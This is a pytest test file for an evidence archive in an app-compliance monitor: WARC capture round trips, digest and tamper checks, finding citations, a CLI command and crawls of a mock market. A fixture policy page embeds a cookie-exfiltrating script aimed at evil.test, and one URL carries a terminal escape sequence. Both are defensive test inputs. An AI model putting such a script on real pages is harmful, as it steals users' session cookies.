"""The evidence archive: WARC records written and read back with their digests checked, what each finding cites,
`finmon evidence`, and a crawl of the market whose every kept listing, policy and APK is archived."""
import gzip
import json
import random
import uuid

import pytest
from click.testing import CliRunner
from warcio.archiveiterator import ArchiveIterator

from finmon import jobs
from finmon.cli import main
from finmon.evidence import (
    CaptureRef,
    CaptureWriter,
    EvidenceError,
    cite,
    evidence_link,
    read_capture,
    rebase,
    resolve,
)
from finmon.model import Analysis, ApkInfo, Evidence, Finding, Listing, PolicyVersion, merge_listings, sha256_hex
from index.sqlite import SQLiteStore
from market.server import MarketServer

NOW = "2026-03-02T08:30:00+00:00"
HOSTILE_POLICY = "<html><body><p>我们会收集您的通讯录。</p><script>fetch('http://evil.test/'+document.cookie)</script></body></html>"


def write(folder, *records, **limits):
    """Each record through one writer: ("response", url, body) or ("metadata", url, body); their references."""
    writer = CaptureWriter(folder, **limits)
    refs = []
    for kind, url, body in records:
        if kind == "response":
            headers = [("Content-Type", "text/html; charset=utf-8"), ("ETag", '"v1"'), ("Transfer-Encoding", "chunked")]
            refs.append(writer.response(url, 200, headers, body, NOW, reason="OK"))
        else:
            refs.append(writer.metadata(url, body, NOW))
    writer.close()
    return [resolve(ref, folder) for ref in refs]


# -- writing and reading ---------------------------------------------------------------------------------------------
def test_a_response_and_a_metadata_record_round_trip(tmp_path):
    gbk = "隐私政策：我们会收集您的手机号码".encode("gbk")
    inspection = json.dumps({"package": "com.a", "sha256": "f" * 64, "permissions": ["android.permission.READ_SMS"]})
    policy, legacy, apk = write(tmp_path, ("response", "http://p.test/a?x=1", HOSTILE_POLICY.encode()),
                                ("response", "http://p.test/gbk.htm", gbk),
                                ("metadata", "http://p.test/a.apk", inspection.encode()))
    got = read_capture(policy)
    assert got.body == HOSTILE_POLICY.encode()  # kept verbatim, script and all
    assert (got.record_type, got.url, got.date, got.status, got.reason) == (
        "response", "http://p.test/a?x=1", "2026-03-02T08:30:00Z", 200, "OK")
    assert got.headers == (("Content-Type", "text/html; charset=utf-8"), ("ETag", '"v1"'))  # stored de-chunked
    assert got.digest == "sha256:" + sha256_hex(HOSTILE_POLICY.encode()) == CaptureRef.parse(policy).digest
    assert got.extension() == ".html" and got.summary()["verified"] and "body" not in got.summary()
    assert read_capture(legacy).body == gbk
    meta = read_capture(apk)
    assert (meta.record_type, meta.status, meta.headers, meta.content_type) == ("metadata", None, (), "application/json")
    assert json.loads(meta.body)["sha256"] == "f" * 64 and meta.extension() == ".json"
    # a standard WARC: warcinfo first, every record's digests pass a general reader's check
    with open(tmp_path / "captures.warc.gz", "rb") as fh:
        records = [(r.rec_type, r.rec_headers.get_header("WARC-Record-ID"), r.content_stream().read(),
                    r.digest_checker.passed) for r in ArchiveIterator(fh, check_digests=True)]
    assert [r[0] for r in records] == ["warcinfo", "response", "response", "metadata"]
    assert all(passed is not False for *_, passed in records)
    assert [r[1] for r in records[1:]] == [CaptureRef.parse(ref).record_id for ref in (policy, legacy, apk)]


def test_a_flipped_byte_is_an_error_naming_the_file(tmp_path):
    first, second = write(tmp_path, ("response", "http://p.test/1", HOSTILE_POLICY.encode() * 20),
                          ("response", "http://p.test/2", b"second"))
    warc = tmp_path / "captures.warc.gz"
    data = bytearray(warc.read_bytes())
    start, end = CaptureRef.parse(first).offset, CaptureRef.parse(second).offset
    data[(start + end) // 2] ^= 0x55  # inside the first record's compressed body
    warc.write_bytes(bytes(data))
    with pytest.raises(EvidenceError, match=str(warc)):
        read_capture(first)
    assert read_capture(second).body == b"second"  # the next record is whole


def test_an_altered_body_in_a_valid_member_is_a_digest_mismatch(tmp_path):
    first, second = write(tmp_path, ("response", "http://p.test/1", "我们不会收集您的通讯录。".encode()),
                          ("response", "http://p.test/2", b"second"))
    warc = tmp_path / "captures.warc.gz"
    data = warc.read_bytes()
    start, end = CaptureRef.parse(first).offset, CaptureRef.parse(second).offset
    record = gzip.decompress(data[start:end])
    forged = record.replace("不会收集".encode(), "会收集的".encode())  # same length: only the digest can tell
    assert forged != record and len(forged) == len(record)
    warc.write_bytes(data[:start] + gzip.compress(forged) + data[end:])
    with pytest.raises(EvidenceError, match="digest mismatch") as caught:
        read_capture(first)
    assert str(warc) in str(caught.value)


def test_a_missing_file_a_wrong_record_and_no_reference_are_clear_errors(tmp_path):
    (ref,) = write(tmp_path, ("response", "http://p.test/1", b"body"))
    parsed = CaptureRef.parse(ref)
    with pytest.raises(EvidenceError, match="no capture recorded"):
        read_capture("")
    with pytest.raises(EvidenceError, match="not a capture reference"):
        read_capture("captures.warc.gz")
    with pytest.raises(EvidenceError, match=f"{tmp_path / 'gone.warc.gz'}: WARC file not found"):
        read_capture(str(CaptureRef(str(tmp_path / "gone.warc.gz"), parsed.offset, parsed.record_id, parsed.digest)))
    other = CaptureRef(parsed.file, parsed.offset, f"<urn:uuid:{uuid.uuid4()}>", parsed.digest)
    with pytest.raises(EvidenceError, match="the file was replaced"):
        read_capture(str(other))
    with pytest.raises(EvidenceError, match="no record at offset"):
        read_capture(str(CaptureRef(parsed.file, 10**6, parsed.record_id, parsed.digest)))


def test_a_killed_crawl_leaves_every_complete_record_readable(tmp_path):
    refs = write(tmp_path, *[("response", f"http://p.test/{i}", f"第{i}份".encode() * 500) for i in range(3)])
    warc = tmp_path / "captures.warc.gz"
    last = CaptureRef.parse(refs[-1]).offset
    warc.write_bytes(warc.read_bytes()[: last + 40])  # killed while writing the last record
    assert [read_capture(ref).body for ref in refs[:2]] == ["第0份".encode() * 500, "第1份".encode() * 500]
    with pytest.raises(EvidenceError, match="broken or truncated|digest mismatch"):
        read_capture(refs[-1])


def test_each_writer_starts_a_new_file_and_rolls_over_at_the_size_limit(tmp_path):
    (first,) = write(tmp_path, ("response", "http://p.test/1", b"a"))
    again = write(tmp_path, *[("response", f"http://p.test/{i}", random.Random(i).randbytes(3000))  # incompressible
                              for i in range(4)], max_bytes=1500)
    files = [CaptureRef.parse(ref).file for ref in (first, *again)]
    assert files[0].endswith("/captures.warc.gz") and files[1].endswith("/captures-2.warc.gz")
    assert len(set(files[1:])) == 4  # one record per file past the limit, never one file overwritten
    assert [read_capture(ref).url for ref in again] == [f"http://p.test/{i}" for i in range(4)]


def test_references_resolve_and_rebase_between_snapshot_folders(tmp_path):
    ref = f"captures.warc.gz#12;<urn:uuid:{uuid.uuid4()}>;sha256:{'0' * 64}"
    old, new = tmp_path / "crawls" / "a" / "xiaomi", tmp_path / "crawls" / "b" / "xiaomi"
    absolute = resolve(ref, old)
    assert CaptureRef.parse(absolute).file == str(old / "captures.warc.gz")
    carried = rebase(ref, old, new)
    assert carried.startswith("../../a/xiaomi/captures.warc.gz#12;") and resolve(carried, new) == absolute
    assert resolve("", old) == "" == rebase("", old, new) == rebase("garbage", old, new)
    assert resolve(absolute, new) == absolute
    assert evidence_link("abc", "http://s.test") == "http://s.test/evidence/abc"


# -- what each finding cites -----------------------------------------------------------------------------------------
def ref(name):
    return f"/w/{name}.warc.gz#0;<urn:uuid:{uuid.uuid5(uuid.NAMESPACE_URL, name)}>;sha256:{'0' * 64}"


def test_each_finding_cites_the_capture_its_evidence_rests_on():
    contacts = "android.permission.READ_CONTACTS"
    xiaomi = Listing(store="xiaomi", store_id="1", platform="android", package="com.a", name="借", developer="d",
                     category="c", source_url="http://x.test/1", fetched_at=NOW, permissions=(contacts,),
                     privacy_url="http://p.test/p", apk_url="http://a.test/a.apk", capture=ref("xiaomi"))
    gallery = Listing(store="appgallery", store_id="2", platform="android", package="com.a", name="借",
                      developer="d", category="c", source_url="http://g.test/2", fetched_at=NOW,
                      description="保本保息", capture=ref("appgallery"))
    policy = PolicyVersion(url="http://p.test/p", final_url="http://p.test/p", fetched_at=NOW, sha256="s", text="t",
                           capture=ref("policy"))
    apk = ApkInfo(sha256="a", size=1, package="com.a", permissions=("android.permission.READ_SMS",),
                  url="http://a.test/a.apk", capture=ref("apk"))
    app = merge_listings([xiaomi, gallery], {policy.url: policy}, {}, {apk.url: apk})[0]

    def finding(rule, **evidence):
        return Finding(rule_id=rule, severity="high", confidence="high", app_key=app.key, title="t",
                       evidence=Evidence(**evidence), regulation="r")

    cases = {
        "P101": (finding("P101", kind="permission", key=contacts, text=contacts), "xiaomi"),
        "P102": (finding("P102", kind="permission", key="android.permission.READ_SMS",
                         text="android.permission.READ_SMS"), "apk"),  # only the manifest requests it
        "D301": (finding("D301", kind="permission", key="contacts", text=contacts, url=policy.url), "xiaomi"),
        "C202": (finding("C202", kind="quote", key="contacts", text="t", start=0, end=1, url=policy.url), "policy"),
        "C205": (finding("C205", kind="absence", key="complaint_channel", url=policy.url), "policy"),
        "R602": (finding("R602", kind="quote", key="guaranteed_return", text="保本保息", url=gallery.source_url),
                 "appgallery"),
        "R601": (finding("R601", kind="absence", key="registry", url=xiaomi.source_url), "xiaomi"),
        "S401": (finding("S401", kind="sdk", key="jpush", url=apk.url), "apk"),
        "V501": (finding("V501", kind="manifest", key="debuggable", url=apk.url), "apk"),
    }
    analysis = Analysis(app.key, "lending", 1.0, tuple(f for f, _ in cases.values()))
    cited = cite(app, analysis)
    assert [f.id for f in cited.findings] == [f.id for f in analysis.findings]  # ids do not change
    assert {f.rule_id: f.capture for f in cited.findings} == {rule: ref(name) for rule, (_, name) in cases.items()}
    nothing = merge_listings([xiaomi], {}, {"http://p.test/p": "not_found"})[0]
    c201 = finding("C201", kind="absence", key="policy", url="http://p.test/p")
    assert cite(nothing, Analysis(app.key, "lending", 1.0, (c201,))).findings[0].capture == ref("xiaomi")


# -- finmon evidence --------------------------------------------------------------------------------------------------
def indexed(tmp_path, *pairs):
    """An SQLite index holding one finding per (rule id, capture reference); the findings."""
    findings = [Finding(rule_id=rule, severity="high", confidence="high", app_key="android:com.a", title=f"{rule} 标题",
                        evidence=Evidence(kind="permission", key=rule), regulation="r", capture=capture)
                for rule, capture in pairs]
    listing = Listing(store="xiaomi", store_id="1", platform="android", package="com.a", name="借", developer="d",
                      category="c", source_url="http://x.test/1", fetched_at=NOW)
    with SQLiteStore(tmp_path / "finmon.db") as store:
        store.save_analysis(merge_listings([listing], {}, {}), [Analysis("android:com.a", "lending", 1.0,
                                                                         tuple(findings))], NOW)
    return findings


def test_finmon_evidence_prints_the_capture_and_writes_the_body(tmp_path, monkeypatch):
    (policy, apk) = write(tmp_path / "crawl", ("response", "http://p.test/p?\x1b[31m", HOSTILE_POLICY.encode()),
                          ("metadata", "http://p.test/a.apk", b'{"package":"com.a"}'))
    p101, v501 = indexed(tmp_path, ("P101", policy), ("V501", apk))
    monkeypatch.chdir(tmp_path)
    runner = CliRunner(env={"FINMON_ES_URL": ""})
    db = ["--db", str(tmp_path / "finmon.db")]
    result = runner.invoke(main, ["evidence", p101.id, *db])
    assert result.exit_code == 0, result.output
    out = result.output
    assert "url: http://p.test/p?\\x1b[31m" in out and "\x1b" not in out  # store text shown, never obeyed
    assert "status: 200 OK" in out and "ETag: \"v1\"" in out and "time: 2026-03-02T08:30:00Z" in out
    assert f"digest: sha256:{sha256_hex(HOSTILE_POLICY.encode())} (digest verified)" in out
    assert (tmp_path / f"{p101.id}.html").read_bytes() == HOSTILE_POLICY.encode()
    assert f"written to {tmp_path / (p101.id + '.html')}" in out
    result = runner.invoke(main, ["evidence", v501.id, "--json", "--out", str(tmp_path / "apk.json"), *db])
    doc = json.loads(result.output)
    assert doc["capture"]["record_type"] == "metadata" and doc["capture"]["verified"]
    assert doc["finding"]["id"] == v501.id and doc["body_file"] == str(tmp_path / "apk.json")
    assert json.loads((tmp_path / "apk.json").read_bytes()) == {"package": "com.a"}
    explained = runner.invoke(main, ["explain", "android:com.a", *db]).output
    assert f"capture: {policy}" in explained and f"finmon evidence {p101.id}" in explained
    assert evidence_link(p101.id) in explained


def test_finmon_evidence_errors_are_one_line_and_cost_only_their_finding(tmp_path, monkeypatch):
    good, broken = write(tmp_path / "crawl", ("response", "http://p.test/1", b"one"),
                         ("response", "http://p.test/2", "两".encode() * 4000))
    gone = str(CaptureRef(str(tmp_path / "gone.warc.gz"), 0, CaptureRef.parse(good).record_id,
                          CaptureRef.parse(good).digest))
    ok, cut, missing, none = indexed(tmp_path, ("P101", good), ("P102", broken), ("D301", gone), ("C201", ""))
    warc = tmp_path / "crawl" / "captures.warc.gz"
    warc.write_bytes(warc.read_bytes()[: CaptureRef.parse(broken).offset + 60])  # the file cut short
    monkeypatch.chdir(tmp_path)
    runner = CliRunner(env={"FINMON_ES_URL": ""})
    db = ["--db", str(tmp_path / "finmon.db")]
    assert runner.invoke(main, ["evidence", ok.id, *db]).exit_code == 0
    for finding, message in ((cut, "broken or truncated"), (missing, "WARC file not found"),
                             (none, "no capture recorded"), (None, "no finding 'nope' in the index")):
        result = runner.invoke(main, ["evidence", finding.id if finding else "nope", *db])
        assert result.exit_code == 1 and message in result.output, result.output
        assert len(result.output.strip().splitlines()) == 1
    assert "capture: none recorded" in runner.invoke(main, ["explain", "android:com.a", *db]).output
    # the report links every finding with a capture, whether its file still reads or not; it never reads them
    report = runner.invoke(main, ["report", *db, "--out", str(tmp_path / "report"), "--workers", "0"],
                           env={"FINMON_ES_URL": "", "FINMON_SERVE_URL": "http://serve.test:8750/"})
    assert report.exit_code == 0, report.output
    page = next((tmp_path / "report" / "apps").glob("*.html")).read_text(encoding="utf-8")
    for finding in (ok, cut, missing):
        assert f'href="http://serve.test:8750/evidence/{finding.id}"' in page
    assert f"/evidence/{none.id}" not in page


# -- a crawl of the market, end to end --------------------------------------------------------------------------------
APPS, SEED = 80, 5


@pytest.fixture(scope="module")
def crawled(tmp_path_factory):
    out = tmp_path_factory.mktemp("evidence")
    with MarketServer(apps=APPS, seed=SEED) as market:
        runs = jobs.crawl(out / "crawl", market.store_urls, allow_hosts=["127.0.0.1"], timeout=300)
    assert len(runs) == len(market.store_urls) and all(run.outcome == "ok" for run in runs), runs
    return out


def lines(folder, name):
    return [json.loads(line) for line in (folder / f"{name}.jsonl").read_text(encoding="utf-8").splitlines()]


def test_the_crawl_archives_every_listing_policy_and_apk_it_keeps(crawled):
    from crawler.policy import extract_policy

    seen = {"listings": 0, "policies": 0, "apks": 0}
    for folder in sorted((crawled / "crawl").iterdir()):
        if not (folder / "listings.jsonl").exists():
            continue
        cited = set()
        for row in lines(folder, "listings"):
            got = read_capture(resolve(row["capture"], folder))
            assert (got.record_type, got.url, got.status) == ("response", row["source_url"], 200)
            assert row["name"].encode() in got.body or json.dumps(row["name"]).encode() in got.body
            cited.add(got.record_id)
            seen["listings"] += 1
            if row.get("data_safety_capture"):  # the Data safety page a Google Play listing's form was read from
                form = read_capture(resolve(row["data_safety_capture"], folder))
                assert (form.status, form.url) == (200, row["source_url"].replace("/details?", "/datasafety?")
                                                   .replace("&gl=hk", ""))
                cited.add(form.record_id)
                seen["data_safety"] = seen.get("data_safety", 0) + 1
        for row in lines(folder, "policies"):
            if row["status"] != "ok":
                continue
            got = read_capture(resolve(row["capture"], folder))
            version = row["version"]
            assert (got.url, got.status, version["capture"]) == (version["final_url"], 200, row["capture"])
            # the archived body is the one the text was extracted from
            again, _ = extract_policy(row["url"], got.url, got.body, got.content_type, version["fetched_at"])
            assert again.sha256 == version["sha256"]
            cited.add(got.record_id)
            seen["policies"] += 1
        for row in lines(folder, "apks"):
            if row["status"] != "ok":
                continue
            got = read_capture(resolve(row["capture"], folder))
            assert (got.record_type, got.url) == ("metadata", row["url"])
            assert json.loads(got.body) == {k: v for k, v in row["apk"].items() if k != "capture"}
            cited.add(got.record_id)
            seen["apks"] += 1
        archived = set()
        for warc in folder.glob("*.warc.gz"):
            with open(warc, "rb") as fh:
                for record in ArchiveIterator(fh, check_digests=True):
                    record.content_stream().read()
                    assert record.digest_checker.passed is not False, warc
                    if record.rec_type != "warcinfo":
                        archived.add(record.rec_headers.get_header("WARC-Record-ID"))
        assert cited == archived, folder  # one record per kept line, none left over
    assert min(seen.values()) > 10 and "data_safety" in seen, seen


@pytest.fixture(params=["sqlite", pytest.param("elastic", marks=pytest.mark.elasticsearch)])
def analysed(request, crawled, tmp_path):
    """The crawl analysed into each backend: (store, the environment `finmon` needs to open it, --db)."""
    if request.param == "sqlite":
        store = SQLiteStore(tmp_path / "finmon.db")
        env, db = {"FINMON_ES_URL": ""}, ["--db", str(tmp_path / "finmon.db")]
    else:
        from index.elastic import ElasticStore

        es_url, prefix = request.getfixturevalue("es_url"), f"finmon-evidence-{uuid.uuid4().hex[:8]}"
        drop = request.getfixturevalue("drop_es_prefix")
        store = ElasticStore(es_url, prefix=prefix)
        env, db = {"FINMON_ES_URL": es_url, "FINMON_ES_PREFIX": prefix}, []
    jobs.analyze(crawled / "crawl", store, registry=None)
    yield store, env, db
    if request.param == "elastic":
        drop(store.es, store.prefix)
    store.close()


def test_every_finding_opens_its_capture_with_the_digest_verified(analysed, tmp_path, monkeypatch):
    store, env, db = analysed
    findings = list(store.export("findings"))
    assert len({f["rule_id"] for f in findings}) >= 8
    kinds = {}
    for f in findings:
        assert f["capture"], f
        got = read_capture(f["capture"])
        kinds.setdefault(f["rule_id"][0], set()).add(got.record_type)
        if f["evidence"]["kind"] == "quote":
            assert got.url == f["evidence"]["url"]  # the policy it quotes
        if f["evidence"]["kind"] == "data_safety":  # D304: the Data safety page the form was read from
            assert "/store/apps/datasafety?" in got.url and got.status == 200
    assert kinds["S"] == kinds["V"] == {"metadata"} and kinds["P"] == kinds["C"] == {"response"}
    assert store.captures() == {f["capture"] for f in findings}
    monkeypatch.chdir(tmp_path)
    runner = CliRunner(env=env)
    for f in {f["rule_id"]: f for f in findings}.values():  # one finding of each rule through the command
        result = runner.invoke(main, ["evidence", f["id"], *db])
        assert result.exit_code == 0 and "(digest verified)" in result.output, result.output
        (body,) = tmp_path.glob(f"{f['id']}.*")
        assert body.read_bytes() == read_capture(f["capture"]).body
        body.unlink()


def test_a_crawl_killed_outright_leaves_every_cited_record_readable(tmp_path):
    import os
    import signal
    import subprocess
    import sys
    import time
    from pathlib import Path

    out = tmp_path / "snap"
    with MarketServer(apps=1500, seed=8) as market:
        cmd = [sys.executable, "-m", "crawler.run", "--out", str(out), "--allow-host", "127.0.0.1",
               "--store", f"xiaomi={market.store_urls['xiaomi']}"]
        proc = subprocess.Popen(cmd, cwd=Path(__file__).resolve().parents[2], stdout=subprocess.DEVNULL,
                                stderr=subprocess.DEVNULL, start_new_session=True)
        try:
            deadline = time.monotonic() + 120
            while time.monotonic() < deadline and proc.poll() is None:
                policies = out / "policies.jsonl"
                if policies.exists() and policies.read_bytes().count(b"\n") >= 30:
                    break
                time.sleep(0.1)
        finally:
            os.killpg(proc.pid, signal.SIGKILL)  # no clean-up of any kind
            proc.wait()
    assert not (out / "run.json").exists()  # it never finished
    read = 0
    for name in ("listings", "policies", "apks"):
        for line in (out / f"{name}.jsonl").read_bytes().splitlines():
            try:
                row = json.loads(line)
            except ValueError:
                continue  # the line being written when it died
            if row.get("capture"):
                assert read_capture(resolve(row["capture"], out)).record_id in row["capture"]
                read += 1
    assert read >= 30
